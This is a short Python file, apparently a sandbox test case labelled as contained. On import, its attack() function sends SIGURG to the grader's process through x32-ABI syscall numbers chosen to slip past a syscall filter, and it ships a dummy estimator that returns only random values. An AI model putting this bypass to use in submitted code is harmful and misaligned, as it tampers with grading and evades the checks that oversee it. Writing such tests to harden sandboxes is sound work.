"""Signals the grader by the numbers of the x32 ABI, which a filter may not know.

Contained from tier 1.
"""

import contextlib
import ctypes

KNOWN = {}

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(*arguments):
    result = LIBC.syscall(*map(ctypes.c_long, arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


SIGURG, X32 = 23, 0x40000000


def attack():
    for number in (62, 200, 424):  # kill, tkill, pidfd_send_signal
        with contextlib.suppress(OSError):
            syscall(X32 | number, KNOWN["pid"], SIGURG)


attack()


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
